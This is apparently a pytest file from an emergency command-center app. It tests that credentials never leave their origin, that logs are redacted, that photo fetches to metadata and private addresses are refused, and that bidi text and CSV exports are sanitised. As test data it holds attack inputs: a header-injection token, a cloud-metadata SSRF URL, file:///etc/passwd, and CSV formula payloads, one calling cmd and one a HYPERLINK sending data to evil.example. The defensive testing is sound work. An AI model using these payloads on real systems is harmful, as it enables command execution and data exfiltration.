"""Hostile backends, issue 15 points 4 and 5: nothing leaks, and feed text cannot lie.

Leaks are counted and must be 0: a credential reaching another origin, a request reaching a host a redirect or a
photo URL pointed at, a secret in a log record or the health line. Every server is on 127.0.0.1 (two ports are two
origins); for link-local and private ranges only the refusal decision is checked, so no packet goes there.
"""
from __future__ import annotations

import asyncio
import csv
import io
import logging
import threading
from datetime import UTC, datetime

import pytest
from aiohttp import web

from commandcenter.config import ConfigError, config_from_dict
from commandcenter.domain import decode_incident
from commandcenter.domain.text import INVISIBLE_MARK, csv_cell, display_text
from commandcenter.feeds import make_feed
from commandcenter.feeds.transport import MediaPolicy, make_client, make_media_client, origin_of

from tests.support.feeds import Collector, FakePush, incident, run_until, section, serve

SECRET = "tok-7f3a9c1e5b"
NS = 'xmlns="urn:oasis:names:tc:emergency:cap:1.2"'


def cap_doc(identifier: str, headline: str) -> str:
    return (f'<alert {NS}><identifier>{identifier}</identifier><sender>a@b.cn</sender>'
            f"<sent>2026-11-23T10:00:00+08:00</sent><status>Actual</status><msgType>Alert</msgType><scope>Public</scope>"
            f"<info><language>zh-CN</language><category>Met</category><event>暴雨</event><urgency>Expected</urgency>"
            f"<severity>Severe</severity><certainty>Likely</certainty><headline>{headline}</headline>"
            f"<area><areaDesc>西湖区</areaDesc></area></info></alert>")


def atom(*hrefs: str) -> str:
    entries = "".join(f"<entry><id>{h}</id><updated>2026-11-23T10:00:00Z</updated>"
                      f"<link rel='alternate' type='application/cap+xml' href='{h}'/></entry>" for h in hrefs)
    return f"<feed xmlns='http://www.w3.org/2005/Atom'>{entries}</feed>"


class Witness:
    """An origin that must see nothing of a feed: counts every request and every credential it gets."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self.credentials = 0

    def app(self, routes: dict[str, str] | None = None) -> web.Application:
        async def any_path(request: web.Request) -> web.Response:
            self.requests.append(request.path)
            if request.headers.get("Authorization") or request.headers.get("Cookie"):
                self.credentials += 1
            body = (routes or {}).get(request.path)
            if body is None:
                return web.Response(status=404)
            return web.Response(text=body, content_type="application/cap+xml")

        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", any_path)
        return app


def all_log_text(records: list[logging.LogRecord]) -> str:
    fmt = logging.Formatter("%(name)s %(levelname)s %(message)s")
    return "\n".join(fmt.format(r) for r in records)


# ------------------------------------------------------------------------------------------------- credentials
def test_cap_sends_its_token_only_to_its_own_origin(monkeypatch):
    """An index entry linking to another origin is read without the token; both warnings are kept."""
    monkeypatch.setenv("CC_HOSTILE_TOKEN", SECRET)
    other = Witness()

    async def main() -> Collector:
        home_auth: list[str | None] = []
        async with serve(other.app({"/cap/far.xml": cap_doc("FAR", "远端预警")})) as far_base:
            async def index(request: web.Request) -> web.Response:
                home_auth.append(request.headers.get("Authorization"))
                return web.Response(text=atom("cap/near.xml", f"{far_base}/cap/far.xml"),
                                    content_type="application/atom+xml")

            async def near(request: web.Request) -> web.Response:
                home_auth.append(request.headers.get("Authorization"))
                return web.Response(text=cap_doc("NEAR", "本地预警"), content_type="application/cap+xml")

            app = web.Application()
            app.router.add_get("/index", index)
            app.router.add_get("/cap/near.xml", near)
            async with serve(app) as base:
                client = make_client(follow_redirects=True)
                try:
                    feed = make_feed(section(kind="cap", url=base + "/index", interval=0.05,
                                             token_env="CC_HOSTILE_TOKEN"), client)
                    sink = Collector()
                    await run_until(lambda: feed.run(sink, None), lambda: len(sink.latest("alerts")) >= 2, timeout=10)
                finally:
                    await client.aclose()
        assert home_auth and all(h == f"Bearer {SECRET}" for h in home_auth)    # the feed's own origin: token
        return sink

    sink = asyncio.run(main())
    assert other.requests == ["/cap/far.xml"]
    assert other.credentials == 0                                                 # leaks: 0
    assert sorted(a.title for a in sink.latest("alerts").values()) == ["本地预警", "远端预警"]   # nothing lost


@pytest.mark.parametrize("kind,mode,path", [("native", "poll", "/api/v1"), ("native", "sse", "/api/v1"),
                                            ("native", "ws", "/api/v1"), ("open311", "poll", "/open311/v2"),
                                            ("cap", "poll", "/cap/index.atom"), ("geojson", "poll", "/layer.geojson")])
def test_no_feed_follows_a_redirect_to_another_origin(kind, mode, path, monkeypatch):
    """Every feed kind and native mode: a redirect to another origin is refused (the other origin sees no request
    at all); the feed says why, naming the refused origin."""
    monkeypatch.setenv("CC_HOSTILE_TOKEN", SECRET)
    other = Witness()

    async def main():
        async with serve(other.app()) as far_base:
            async def away(request: web.Request) -> web.Response:
                raise web.HTTPFound(f"{far_base}{request.path_qs}")

            app = web.Application()
            app.router.add_get("/{tail:.*}", away)
            async with serve(app) as base:
                client = make_client(follow_redirects=True)
                try:
                    feed = make_feed(section(kind=kind, url=base + path, mode=mode, interval=0.05,
                                             token_env="CC_HOSTILE_TOKEN"), client)
                    feed.backoff_base = 0.01
                    await run_until(lambda: feed.run(Collector(), None), lambda: feed.consecutive_failures >= 2,
                                    timeout=10)
                finally:
                    await client.aclose()
                return feed, far_base

    feed, far_base = asyncio.run(main())
    assert other.requests == [] and other.credentials == 0                        # leaks: 0
    assert "refused" in feed.last_error and origin_of(far_base) in feed.last_error


def test_redirect_within_the_origin_is_followed_with_the_token(monkeypatch):
    """Same-origin redirects work as before, credential included."""
    monkeypatch.setenv("CC_HOSTILE_TOKEN", SECRET)
    push = FakePush()
    push.publish("incident", incident(1))

    async def main() -> tuple[Collector, list[str | None]]:
        seen: list[str | None] = []

        async def hop(request: web.Request) -> web.Response:
            seen.append(request.headers.get("Authorization"))
            if request.path.startswith("/old/"):              # /old/KIND → /api/v1/KIND, same origin
                raise web.HTTPMovedPermanently(f"/api/v1/{request.match_info['kind']}?{request.query_string}")
            return await push.poll(request)

        app = web.Application()
        app.router.add_get("/old/{kind}", hop)
        app.router.add_get("/api/v1/{kind}", hop)
        async with serve(app) as base:
            client = make_client(follow_redirects=True)
            try:
                feed = make_feed(section(url=base + "/old", interval=0.05, token_env="CC_HOSTILE_TOKEN"), client)
                sink = Collector()
                await run_until(lambda: feed.run(sink, None), lambda: sink.all("incidents"), timeout=10)
            finally:
                await client.aclose()
        return sink, seen

    sink, seen = asyncio.run(main())
    assert [r.id for r in sink.all("incidents")] == ["I1"]
    assert seen and all(h == f"Bearer {SECRET}" for h in seen)


def test_allowed_redirect_origin_never_gets_the_token(monkeypatch):
    monkeypatch.setenv("CC_HOSTILE_TOKEN", SECRET)
    other = Witness()
    body = '{"items": [], "cursor": 0, "more": false}'

    async def main():
        async with serve(other.app({f"/api/v1/{k}": body for k in ("incidents", "resources", "alerts", "territory",
                                                                     "kpis")})) as far_base:
            async def away(request: web.Request) -> web.Response:
                raise web.HTTPFound(f"{far_base}{request.path}")

            app = web.Application()
            app.router.add_get("/api/v1/{tail:.*}", away)
            async with serve(app) as base:
                client = make_client(follow_redirects=True)
                try:
                    feed = make_feed(section(url=base + "/api/v1", interval=0.05, token_env="CC_HOSTILE_TOKEN",
                                             redirect_origins=[far_base]), client)
                    await run_until(lambda: feed.run(Collector(), None), lambda: len(other.requests) >= 3, timeout=10)
                finally:
                    await client.aclose()

    asyncio.run(main())
    assert len(other.requests) >= 3                                               # allowed: followed
    assert other.credentials == 0                                                 # leaks: 0


def test_redirect_allow_list_errors_name_file_key_and_expectation():
    with pytest.raises(ConfigError) as err:
        config_from_dict({"feeds": [{"name": "a", "url": "http://127.0.0.1:1", "redirect_origins": ["http://x/path"],
                                     "media_allow_networks": ["not-a-net"]}]}, "wall.toml")
    text = str(err.value)
    assert "wall.toml: feeds[0].redirect_origins: [0]: expected an origin" in text
    assert "wall.toml: feeds[0].media_allow_networks: [0]: expected an IP network" in text


# ------------------------------------------------------------------------------------------------- tokens, logs
def test_token_with_a_line_break_is_refused_at_start_naming_only_the_variable(monkeypatch, caplog):
    token = "abc-first-half\r\nX-Injected: evil-second-half"
    monkeypatch.setenv("CC_HOSTILE_TOKEN", token)
    requests: list[str] = []

    async def main():
        async def anything(request: web.Request) -> web.Response:
            requests.append(request.path)
            return web.json_response({"items": [], "cursor": 0, "more": False})

        app = web.Application()
        app.router.add_get("/api/v1/{kind}", anything)
        async with serve(app) as base:
            client = make_client(follow_redirects=True)
            try:
                feed = make_feed(section(url=base + "/api/v1", interval=0.05, token_env="CC_HOSTILE_TOKEN"), client)
                feed.backoff_base = 0.01
                made_with = feed.consecutive_failures                       # nothing tried yet
                await run_until(lambda: feed.run(Collector(), None), lambda: feed.consecutive_failures >= 3, timeout=5)
            finally:
                await client.aclose()
            return feed, made_with

    with caplog.at_level(logging.DEBUG):
        feed, made_with = asyncio.run(main())
    health = feed.health(datetime.now(UTC))
    assert requests == []                                                         # never sent
    assert "CC_HOSTILE_TOKEN" in health.last_error and "header" in health.last_error
    logs = all_log_text(caplog.records)
    leaks = sum(part in text for part in ("abc-first-half", "evil-second-half", "X-Injected")
                for text in (logs, health.last_error))
    assert leaks == 0
    assert made_with == 0 and "CC_HOSTILE_TOKEN" in feed.token_error           # known when the feed was made
    assert any("CC_HOSTILE_TOKEN" in r.getMessage() and r.levelno >= logging.ERROR for r in caplog.records)


def test_no_url_credentials_or_token_in_any_log_record_of_a_feed_run(monkeypatch, caplog):
    """httpx logs every request URL at INFO: user info is taken out before it sees the URL (and every record is
    redacted as a backstop). The credentials still reach the feed's own server."""
    monkeypatch.setenv("CC_HOSTILE_TOKEN", SECRET)
    push = FakePush()
    push.publish("incident", incident(1))
    auth_seen: list[str | None] = []

    async def main() -> Collector:
        async def poll(request: web.Request) -> web.Response:
            auth_seen.append(request.headers.get("Authorization"))
            return await push.poll(request)

        app = web.Application()
        app.router.add_get("/api/v1/{kind}", poll)
        async with serve(app) as base:
            url = base.replace("http://", "http://operator:pa55-w0rd-x@") + "/api/v1"
            client = make_client(follow_redirects=True)
            try:
                feed = make_feed(section(url=url, interval=0.05), client)
                sink = Collector()
                await run_until(lambda: feed.run(sink, None), lambda: sink.all("incidents"), timeout=10)
                tok = make_feed(section(name="t2", url=base + "/nowhere", interval=0.05,
                                        token_env="CC_HOSTILE_TOKEN"), client)
                tok.backoff_base = 0.01
                await run_until(lambda: tok.run(Collector(), None), lambda: tok.consecutive_failures >= 2, timeout=5)
                logging.getLogger("commandcenter.test").warning("a stray line with %s and %s", url, SECRET)
            finally:
                await client.aclose()
        return sink

    with caplog.at_level(logging.DEBUG):
        sink = asyncio.run(main())
    assert sink.all("incidents")
    assert auth_seen and all(h and h.startswith("Basic ") for h in auth_seen)   # credentials still used
    assert any(r.name == "httpx" for r in caplog.records)                       # httpx did log its requests
    logs = all_log_text(caplog.records)
    assert sum(logs.count(s) for s in ("pa55-w0rd-x", "operator:", SECRET)) == 0  # leaks: 0


# ------------------------------------------------------------------------------------------------- media
def test_media_refusal_decision_for_private_link_local_and_loopback_addresses(qloop):
    """No traffic: the decision alone. Addresses are refused unless media_allow_networks holds them, and a DNS
    name is judged by the addresses it resolves to."""
    metadata = "http://169.254.169.254/latest/meta-data/"
    policy = MediaPolicy.for_feed("http://feed.example:8080/api/v1",
                                  media_origins=["http://169.254.169.254", "http://10.1.2.3", "http://localhost:9",
                                                 "http://[fe80::1]", "http://[::ffff:169.254.169.254]"])
    open_loopback = MediaPolicy.for_feed("http://localhost:9/api", allow_networks=["127.0.0.1/32", "::1/128"])

    async def decide():
        return [await policy.refusal(u) for u in (metadata, "http://10.1.2.3/p.png", "http://localhost:9/p.png",
                                                  "http://[fe80::1]/p.png", "http://[::ffff:169.254.169.254]/x",
                                                  "http://evil.example/p.png", "file:///etc/passwd")] + \
            [await open_loopback.refusal("http://localhost:9/p.png")]

    *refused, allowed = qloop.run_until_complete(decide())
    assert all(r is not None for r in refused), refused
    assert "169.254.169.254" in refused[0] and "10.1.2.3" in refused[1] and "127.0.0.1" in refused[2] \
        or "::1" in refused[2]
    assert "not an allowed media origin" in refused[5] and "http" in refused[6]
    assert allowed is None


def test_details_fetch_photos_only_from_allowed_hosts_off_the_gui_thread(qloop, qapp):
    """An incident names photos on its feed's origin, on another loopback port (an admin URL), on the cloud
    metadata address and on a 10.x host: only the first is fetched. With the feed named by a DNS name that
    resolves to loopback and no media_allow_networks, not even that one is (checked when connecting)."""
    from commandcenter.services import LiveState
    from commandcenter.ui import details as details_mod
    from commandcenter.ui.details import DetailController, DetailPanel

    from PySide6.QtCore import QBuffer, QByteArray, QIODevice
    from PySide6.QtGui import QColor, QImage

    img = QImage(20, 10, QImage.Format.Format_RGB32)
    img.fill(QColor("#ff8800"))
    data = QByteArray()
    buf = QBuffer(data)
    buf.open(QIODevice.OpenModeFlag.WriteOnly)
    img.save(buf, "PNG")
    png = bytes(data)
    admin = Witness()
    home_hits: list[str] = []
    decoded_on: list[threading.Thread] = []
    real_decode = details_mod.decode_photo

    def spy_decode(raw: bytes):
        decoded_on.append(threading.current_thread())
        return real_decode(raw)

    async def scenario():
        async def photo(request: web.Request) -> web.Response:
            home_hits.append(request.path)
            return web.Response(body=png, content_type="image/png")

        app = web.Application()
        app.router.add_get("/api/v1/photos/{name}", photo)
        async with serve(app) as base, serve(admin.app({"/admin/reset": "ok"})) as admin_base:
            photos = ("photos/p1.png", f"{admin_base}/admin/reset", "http://169.254.169.254/latest/meta-data/",
                      "http://10.0.0.7/p.png")
            inc = decode_incident(incident(1, photos=list(photos)))
            panels = []
            for feed_url, networks in ((base + "/api/v1", ["127.0.0.1/32"]),
                                       (base.replace("127.0.0.1", "localhost") + "/api/v1", [])):
                live = LiveState()
                live.apply(incidents=[inc])
                media = MediaPolicy.for_feed(feed_url, allow_networks=networks)
                client = make_media_client(media, timeout=5.0)
                ctl = DetailController(live, lambda w: None, feed_url=feed_url, media=media,
                                       media_client=lambda: client)
                panel = DetailPanel("incident", inc.id, inc.title)
                try:
                    await ctl._photos(panel, inc)
                    panels.append((panel, dict(ctl.photos.refusals)))
                finally:
                    await client.aclose()
                    await ctl.aclose()
            return panels

    details_mod.decode_photo = spy_decode
    try:
        (allowed_panel, allowed_refusals), (dns_panel, dns_refusals) = qloop.run_until_complete(scenario())
    finally:
        details_mod.decode_photo = real_decode
    assert home_hits == ["/api/v1/photos/p1.png"]                                # fetched once, by the allowed feed
    assert admin.requests == []                                                   # leaks: 0
    assert sum("照片不可用" in t for t in allowed_panel.texts()) == 3
    assert sum("照片不可用" in t for t in dns_panel.texts()) == 4
    assert any("private, loopback or link-local" in r for r in dns_refusals.values())   # the DNS name's address
    assert decoded_on and all(t is not threading.main_thread() for t in decoded_on)


# ------------------------------------------------------------------------------------------------- text
LIE = "燃气泄漏 无危险 已处置"
HOSTILE = "燃气泄漏 \u202e置处已 险危无"          # shows as LIE when the override is obeyed


def test_display_text_marks_bidi_and_zero_width_and_drops_controls():
    assert display_text(HOSTILE) == f"燃气泄漏 {INVISIBLE_MARK}置处已 险危无"
    for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u200c\u200d\u2060\ufeff":
        assert display_text(f"a{ch}b") == f"a{INVISIBLE_MARK}b", hex(ord(ch))
    assert display_text("a\x1b[31mb\x07c\x00d\x85e\x7f") == "a[31mbcde"
    assert display_text("line\nnext\tcol") == "line\nnext\tcol"
    assert display_text("bad \ud800 surrogate") == "bad \ufffd surrogate"
    plain = "暴雨橙色预警"
    assert display_text(plain) is plain


def test_rtl_override_title_renders_in_logical_order_in_the_table_and_a_label(qapp, qtbot):
    """The incident table's DisplayRole text and a rendered label show the title in the order it was written, with
    the override visibly marked, not the reversed lie."""
    from commandcenter.services import LiveState
    from commandcenter.ui.models.incidents import IncidentTableModel
    from commandcenter.ui.tiles.base import plain_label

    from PySide6.QtCore import Qt

    live = LiveState()
    live.apply(incidents=[decode_incident(incident(1, title=HOSTILE))])
    model = IncidentTableModel(live)
    model.flush()
    titles = [model.data(model.index(r, c), Qt.ItemDataRole.DisplayRole)
              for r in range(model.rowCount()) for c in range(model.columnCount())]
    assert f"燃气泄漏 {INVISIBLE_MARK}置处已 险危无" in titles and not any("\u202e" in (t or "") for t in titles)

    def rendered(text: str):
        label = plain_label(text)
        qtbot.addWidget(label)
        label.resize(420, 40)
        return label.grab().toImage()

    shown = rendered(HOSTILE)
    assert shown == rendered(f"燃气泄漏 {INVISIBLE_MARK}置处已 险危无")
    assert shown != rendered(LIE)


def test_titles_differing_only_by_invisible_characters_look_different(qapp, qtbot):
    from commandcenter.ui.tiles.base import plain_label

    def rendered(text: str):
        label = plain_label(text)
        qtbot.addWidget(label)
        label.resize(300, 40)
        return label.grab().toImage()

    a, b = "燃气泄漏", "燃气\u200d泄漏"
    assert display_text(a) != display_text(b)
    assert rendered(a) != rendered(b)


# ------------------------------------------------------------------------------------------------- CSV
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+2", "-2+3*cmd", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "\x1b=1+1", " =1+1", "\u200b=1+1"]


def test_csv_cells_are_escaped_as_spreadsheets_expect():
    for cell in FORMULAS:
        out = csv_cell(cell)
        assert isinstance(out, str) and out.startswith("'"), repr(cell)
    assert csv_cell("\x1b]0;title\x07正常\x1b[0m") == "]0;title正常[0m"
    assert csv_cell(-12.5) == -12.5 and csv_cell(-3) == -3 and csv_cell("-12.5") == "-12.5"    # numbers stay numbers
    assert csv_cell("普通标题") == "普通标题" and csv_cell(None) == "" and csv_cell(True) == "true"


def test_export_csv_writes_no_formula_and_no_raw_escape(sqlite_url, tmp_path, capsys):
    from commandcenter.cli import main
    from commandcenter.store import Store

    titles = FORMULAS + ["\x1b[2J\x07清屏标题"]
    store = Store.open(sqlite_url)
    try:
        store.apply("city", incidents=[decode_incident(incident(i, title=t)) for i, t in enumerate(titles)])
    finally:
        store.close()
    out = tmp_path / "incidents.csv"
    assert main(["export", "incidents", "--store", sqlite_url, "--format", "csv", "--out", str(out)]) == 0
    raw = out.read_text(encoding="utf-8")
    assert "\x1b" not in raw and "\x07" not in raw
    rows = list(csv.DictReader(io.StringIO(raw)))
    assert len(rows) == len(titles)
    risky = [r["title"] for r in rows if r["title"].lstrip(" \u200b").startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert risky == []                                                            # formulas run: 0
    assert all(r["version"] == "1" for r in rows)                                 # numeric columns untouched
    assert any(r["title"] == "[2J清屏标题" for r in rows)


def test_drill_report_csv_timeline_is_escaped(tmp_path):
    from commandcenter.services.drill_report import ReportData, TimelineRow, write_timeline_csv

    at = datetime(2026, 11, 23, 2, 0, tzinfo=UTC)
    data = ReportData(drill_id="D1", scenario=None, started_at=at, stopped_at=None,       # type: ignore[arg-type]
                      timeline=[TimelineRow(at, -5.0, "incident", "=E1", FORMULAS[0], "@reported", "\x07+detail"),
                                TimelineRow(at, 12.0, "action", "A1", "普通", "受理", "")])
    path = write_timeline_csv(data, tmp_path / "report.csv")
    raw = path.read_text(encoding="utf-8-sig")
    assert "\x07" not in raw
    rows = list(csv.reader(io.StringIO(raw)))
    first = rows[1]
    assert first[1] == "-5.0"                                                    # a real negative number stays one
    assert first[3] == "'=E1" and first[4].startswith("'=") and first[5] == "'@reported" and first[6] == "'+detail"
    assert rows[2][4:6] == ["普通", "受理"]


def test_origins_and_redaction_rules():
    from commandcenter.feeds import redact

    assert origin_of("HTTP://Feed.Example/api") == origin_of("http://feed.example:80/x") == "http://feed.example:80"
    assert origin_of("wss://feed.example/ws") == "https://feed.example:443"
    assert origin_of("http://feed.example:8080/") != origin_of("http://feed.example:8081/")    # ports are origins
    assert origin_of("file:///etc/passwd") is None and origin_of("/data/layer.geojson") is None
    redact.register_secret("zz-line-one\nzz-line-two")
    line = ("GET http://op:pw@h/x?access_token=abc123&page=2 'zz-line-one\\nzz-line-two' zz-line-two")
    clean = redact.redact(line)
    assert "op:pw" not in clean and "abc123" not in clean and "zz-line" not in clean and "page=2" in clean


def test_details_panel_and_map_badges_show_feed_text_marked(qapp, qtbot):
    """The other places feed text reaches the screen: a detail panel (title, fields, tooltips) and the map's badges."""
    from commandcenter.services import LiveState
    from commandcenter.ui.details import DetailController
    from commandcenter.ui.map.alerts import plain

    hidden = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u200c\u200d\u2060\ufeff\x1b\x07"
    inc = decode_incident(incident(1, title=HOSTILE, description="描\u200b述\x1b[0m", reporter="李\u202e四"))
    live = LiveState()
    live.apply(incidents=[inc])
    ctl = DetailController(live, lambda w: None)
    panel = ctl.open("incident", inc.id)
    qtbot.addWidget(panel)
    texts = panel.texts() + [panel.title.text()] + [w.toolTip() for w in panel.labels()]
    assert any(f"{INVISIBLE_MARK}置处已" in t for t in texts)
    assert not any(ch in t for t in texts for ch in hidden)
    assert plain(HOSTILE, 40) == f"燃气泄漏 {INVISIBLE_MARK}置处已 险危无"
